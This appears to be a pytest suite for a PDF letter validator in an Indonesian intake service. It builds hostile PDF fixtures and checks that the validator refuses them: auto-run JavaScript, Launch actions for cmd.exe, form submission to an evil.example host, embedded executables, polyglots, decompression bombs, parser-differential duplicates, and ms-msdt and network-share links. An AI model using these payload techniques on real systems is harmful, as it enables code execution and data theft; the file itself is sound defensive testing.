"""The letter check: plain PDFs pass; active content, files in front of the PDF and bombs are refused cheaply."""

from __future__ import annotations

import tracemalloc

import pytest

from tests.harness import Harness, valid_fields
from tests.pdfs import (
    GIB,
    PAGE_CONTENT,
    bomb_pdf,
    build_pdf,
    clean_letter,
    letter_pdf,
    link,
    one_page_pdf,
    stream,
    zero_page_pdf,
)
from vicon import intake, letters
from vicon.letters import letter_problem

JS = b"/S /JavaScript /JS (app.alert\\('halo'\\))"
FILESPEC = b"<< /Type /Filespec /F (lampiran.exe) /EF << /F %d 0 R >> >>"
EMBEDDED_FILE = stream(b"/Type /EmbeddedFile", b"MZ not really a program")
WIDGET = b"/Type /Annot /Subtype /Widget /FT /Tx /T (nama) /Rect [72 600 300 620] /P 3 0 R"

# Each: the letter, and a word its refusal must contain.
HOSTILE: dict[str, tuple[bytes, str]] = {
    "openaction-javascript": (letter_pdf(catalog=b"/OpenAction << " + JS + b" >>"), "JavaScript"),
    "openaction-javascript-indirect": (
        letter_pdf(catalog=b"/OpenAction 6 0 R", extra=[b"<< " + JS + b" >>"]),
        "JavaScript",
    ),
    "openaction-javascript-escaped-name": (
        letter_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "JavaScript",
    ),
    "names-javascript": (
        letter_pdf(
            catalog=b"/Names << /JavaScript 6 0 R >>",
            extra=[b"<< /Names [(mulai) 7 0 R] >>", b"<< " + JS + b" >>"],
        ),
        "JavaScript",
    ),
    "link-javascript": (letter_pdf(annots=[link(JS)]), "JavaScript"),
    "link-javascript-uri": (letter_pdf(annots=[link(b"/S /URI /URI (  JavaScript:alert\\(1\\))")]), "JavaScript"),
    "action-chain-next-javascript": (
        letter_pdf(annots=[link(b"/S /URI /URI (https://example.go.id/) /Next << " + JS + b" >>")]),
        "JavaScript",
    ),
    "outline-javascript": (
        letter_pdf(
            catalog=b"/Outlines 6 0 R",
            extra=[
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Bab 1) /Parent 6 0 R /A << " + JS + b" >> >>",
            ],
        ),
        "JavaScript",
    ),
    "rendition-js": (letter_pdf(annots=[link(b"/S /Rendition /OP 0 /JS (app.alert\\(1\\))")]), "JavaScript"),
    "openaction-launch": (letter_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "aksi otomatis"),
    "annotation-launch": (letter_pdf(annots=[link(b"/S /Launch /Win << /F (calc.exe) >>")]), "aksi otomatis"),
    "page-aa-launch": (letter_pdf(page=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"), "aksi otomatis"),
    "catalog-aa": (letter_pdf(catalog=b"/AA << /WC << /S /URI /URI (https://example.go.id/) >> >>"), "aksi otomatis"),
    "page-aa": (letter_pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "aksi otomatis"),
    "annotation-aa": (
        letter_pdf(
            annots=[
                b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://example.go.id/) >>"
                b" /AA << /E << /S /Named /N /NextPage >> >> >>"
            ]
        ),
        "aksi otomatis",
    ),
    "form-field-aa": (
        letter_pdf(
            catalog=b"/AcroForm << /Fields [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            extra=[b"<< " + WIDGET + b" /AA << /K << /S /Named /N /Print >> >> >>"],
        ),
        "aksi otomatis",
    ),
    "submitform": (letter_pdf(annots=[link(b"/S /SubmitForm /F (https://evil.example/kirim)")]), "aksi otomatis"),
    "importdata": (letter_pdf(annots=[link(b"/S /ImportData /F (data.fdf)")]), "aksi otomatis"),
    "gotor": (letter_pdf(annots=[link(b"/S /GoToR /F (//server/share/x.pdf) /D [0 /Fit]")]), "aksi otomatis"),
    "gotoe": (letter_pdf(annots=[link(b"/S /GoToE /T << /R /C /N (lampiran) >> /D [0 /Fit]")]), "aksi otomatis"),
    "uri-file": (letter_pdf(annots=[link(b"/S /URI /URI (file:///C:/Windows/System32/calc.exe)")]), "aksi otomatis"),
    "embedded-files": (
        letter_pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(lampiran.exe) 6 0 R] >> >>",
            extra=[FILESPEC % 7, EMBEDDED_FILE],
        ),
        "lampiran",
    ),
    "file-attachment-annotation": (
        letter_pdf(
            annots=[b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R >>"],
            extra=[FILESPEC % 8, EMBEDDED_FILE],
        ),
        "lampiran",
    ),
    "richmedia": (
        letter_pdf(annots=[b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] >>"]),
        "multimedia",
    ),
    "xfa": (letter_pdf(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=[stream(b"", b"<xdp:xdp/>")]), "XFA"),
    "html-polyglot": (b"<!doctype html><script>alert(1)</script>\n" + one_page_pdf(), "PDF murni"),
    "zip-in-front": (b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 20 + one_page_pdf(), "PDF murni"),
    "javascript-in-object-stream": (
        letter_pdf(catalog=b"/OpenAction << " + JS + b" >>", object_streams=True),
        "JavaScript",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_letter_is_refused_with_a_reason(name: str) -> None:
    data, word = HOSTILE[name]
    problem = letter_problem(data)
    assert problem is not None, name
    assert word.lower() in problem.lower(), problem


@pytest.mark.parametrize(
    "data",
    [one_page_pdf(), clean_letter(), clean_letter(object_streams=True), b"\r\n \t" + clean_letter()],
    ids=["pypdf-blank-page", "links-goto-openaction-dest", "object-streams", "leading-whitespace"],
)
def test_plain_letter_is_accepted(data: bytes) -> None:
    assert letter_problem(data) is None


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Berkas surat kosong."),
        (one_page_pdf(padding=5 * 1024 * 1024), "Berkas surat melebihi 5 MB."),
        (b"%PDF-1.7\nthis is not really a pdf at all", letters.UNREADABLE),
        (zero_page_pdf(), letters.NO_PAGES),
        (b"Ini bukan PDF.", letters.NOT_PDF),
    ],
    ids=["empty", "over-5-mib", "broken", "no-pages", "text"],
)
def test_earlier_refusals_keep_their_messages(data: bytes, message: str) -> None:
    assert letter_problem(data) == message


def test_intake_still_checks_letters_with_the_same_function() -> None:
    assert intake.letter_problem is letter_problem
    assert intake.MAX_LETTER_BYTES == 5 * 1024 * 1024


def test_walk_beyond_its_item_cap_is_refused_as_unreadable() -> None:
    crowd = b"<< /Fluff [" + b"<< /A 1 >> " * (letters.MAX_ITEMS // 2) + b"] >>"
    problem = letter_problem(letter_pdf(extra=[crowd], catalog=b"/Crowd 6 0 R"))
    assert problem == letters.TOO_COMPLEX


def test_walk_beyond_its_depth_cap_is_refused_as_unreadable() -> None:
    depth = letters.MAX_DEPTH + 5
    chain = [b"<< /Down %d 0 R >>" % (7 + i) for i in range(depth)] + [b"<< >>"]
    assert letter_problem(letter_pdf(catalog=b"/Deep 6 0 R", extra=chain)) == letters.TOO_COMPLEX


def test_long_outline_is_not_too_deep() -> None:
    # /Next siblings share a depth: a table of contents longer than MAX_DEPTH entries is fine.
    count = letters.MAX_DEPTH * 2
    first = 7
    items = [
        b"<< /Title (Bagian %d) /Parent 6 0 R /Dest [3 0 R /Fit]" % i
        + (b" /Next %d 0 R" % (first + i + 1) if i + 1 < count else b"")
        + b" >>"
        for i in range(count)
    ]
    outlines = b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count %d >>" % (first, first + count - 1, count)
    assert letter_problem(letter_pdf(catalog=b"/Outlines 6 0 R", extra=[outlines, *items])) is None


def test_many_object_streams_beyond_the_inflation_budget_are_refused() -> None:
    # Each object stream inflates to 3 MiB (under pypdf's per-stream limit here), together past the budget.
    padding = b" " * (3 * 1024 * 1024)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    base = build_pdf(objects, object_streams=True)
    assert letter_problem(base) is None
    streams = letters.OBJECT_STREAM_BUDGET // len(padding) + 2
    # Extra object streams, each holding one unused object followed by padding.
    extra = []
    for i in range(streams):
        header = b"%d 0 " % (100 + i)
        extra.append(stream(b"/Type /ObjStm /N 1 /First %d" % len(header), header + b"<< >>" + padding, flate=True))
    pdf = _with_extra_object_streams(objects, extra)
    assert letter_problem(pdf) == letters.TOO_COMPLEX


def _with_extra_object_streams(objects: list[bytes], extra: list[bytes]) -> bytes:
    """`objects` as a classic PDF plus an xref stream that places one object in each of `extra`."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    bodies = objects + extra
    for number, body in enumerate(bodies, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    first_stream = len(objects) + 1
    inner = {100 + i: first_stream + i for i in range(len(extra))}
    size = max(max(inner), len(bodies) + 1) + 1
    xref_number = size - 1
    rows = bytearray()
    for number in range(size):
        if number == 0:
            rows += b"\x00" + bytes(4) + b"\xff\xff"
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in inner:
            rows += b"\x02" + inner[number].to_bytes(4, "big") + b"\x00\x00"
        elif number == xref_number:
            rows += b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00" + bytes(4) + b"\x00\x00"
    xref_at = len(out)
    out += b"%d 0 obj\n" % xref_number + stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size, bytes(rows))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


@pytest.mark.parametrize("where", ["content", "object_stream"])
def test_a_4_gib_bomb_is_checked_within_64_mib_of_memory(where: str) -> None:
    bomb = bomb_pdf(4 * GIB, where=where)
    assert len(bomb) < letters.MAX_LETTER_BYTES
    tracemalloc.start()
    try:
        problem = letter_problem(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # A content stream is never read, so that letter is a harmless one-page PDF; an object stream must be
    # inflated to read the page, so that one is refused once it passes the budget.
    assert problem == (None if where == "content" else letters.TOO_COMPLEX)
    assert peak < 64 * 1024 * 1024, f"{peak / 2**20:.1f} MiB"


def test_limits_do_not_leak_into_other_pypdf_users() -> None:
    from pypdf import get_configuration

    before = get_configuration()
    letter_problem(bomb_pdf(64 * 1024 * 1024, where="object_stream"))
    assert get_configuration() is before
    assert before.zlib_maximum_output_length != letters.STREAM_LIMIT


# ---- through the real target -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["openaction-javascript", "embedded-files", "html-polyglot"])
def test_submit_hostile_letter_is_422_and_leaves_no_trace(harness: Harness, name: str) -> None:
    data, word = HOSTILE[name]
    response = harness.submit(valid_fields(), data, filename="surat.pdf")
    assert response.status_code == 422, response.get_data(as_text=True)
    errors = response.get_json()["errors"]
    assert errors[0]["field"] == "letter"
    assert word.lower() in errors[0]["message"].lower()
    harness.assert_nothing_stored_or_sent()


def test_submit_clean_letter_with_links_and_object_streams_is_accepted(harness: Harness) -> None:
    response = harness.submit(valid_fields(), clean_letter(object_streams=True))
    assert response.status_code == 201, response.get_data(as_text=True)


# ---- files that say one thing twice: pypdf keeps the first, PDF viewers (PDFium) the last ---------------------

_JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    stream(b"", PAGE_CONTENT),
]
_EVIL_CATALOG = b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>"


def _objects_then_xref(objects: list[bytes], extra_body: bytes = b"", extra_xref: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    evil_at = len(out)
    out += extra_body
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += extra_xref.replace(b"EVIL", b"%010d" % evil_at)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return bytes(out)


def _duplicate_xref_entry() -> bytes:
    # The same xref table lists object 1 twice: a clean catalog first, one with a script second.
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES, b"<< /Names [(a) 6 0 R] >>", _JS_ACTION]
    return _objects_then_xref(objects, b"1 0 obj\n" + _EVIL_CATALOG + b"\nendobj\n", b"1 1\nEVIL 00000 n \n")


def _incremental_update_of_a_clean_letter() -> bytes:
    # What signing a letter does: a later revision redefines an object in its own xref table. That is fine.
    base = build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES])
    first_xref = int(base.rsplit(b"startxref", 1)[1].split()[0])
    update_at = len(base)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (id-ID) >>\nendobj\n"
    xref_at = update_at + len(update)
    tail = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        update_at,
        first_xref,
        xref_at,
    )
    return base + update + tail


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            letter_pdf(
                catalog=b"/Names << >> /Names << /JavaScript 6 0 R >>", extra=[b"<< /Names [(a) 7 0 R] >>", _JS_ACTION]
            ),
            id="catalog-key-twice",
        ),
        pytest.param(
            build_pdf(
                [b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES, _EVIL_CATALOG, b"<< /Names [(a) 7 0 R] >>", _JS_ACTION]
            ).replace(b"/Root 1 0 R", b"/Root 1 0 R /Root 5 0 R"),
            id="trailer-root-twice",
        ),
        pytest.param(_duplicate_xref_entry(), id="xref-entry-twice"),
        pytest.param(
            # Nothing in the xref reaches the second catalog, but a viewer rebuilding the file may.
            build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES, b"<< /Names [(a) 6 0 R] >>", _JS_ACTION])
            + b"1 0 obj\n"
            + _EVIL_CATALOG
            + b"\nendobj\n",
            id="unreachable-script",
        ),
    ],
)
def test_letter_that_readers_would_read_differently_is_refused(data: bytes) -> None:
    problem = letter_problem(data)
    assert problem is not None and ("definisi ganda" in problem or "JavaScript" in problem), problem


def test_letter_with_an_incremental_update_is_accepted() -> None:
    assert letter_problem(_incremental_update_of_a_clean_letter()) is None


@pytest.mark.parametrize(
    "uri",
    [
        b"ms-msdt:/id PCWDiagnostic",
        b"search-ms:query=surat&crumb=location:\\\\\\\\evil\\\\share",
        b"\\\\\\\\evil\\\\share\\\\a.pdf",
        b"//evil/share",
    ],
)
def test_letter_link_to_a_local_program_or_a_network_share_is_refused(uri: bytes) -> None:
    data = letter_pdf(annots=[link(b"/S /URI /URI (" + uri + b")")])
    assert letter_problem(data) is not None


@pytest.mark.parametrize("uri", [b"https://majalengkakab.go.id/", b"mailto:diskominfo@example.go.id", b"lampiran.html"])
def test_letter_with_a_web_mail_or_relative_link_is_accepted(uri: bytes) -> None:
    assert letter_problem(letter_pdf(annots=[link(b"/S /URI /URI (" + uri + b")")])) is None
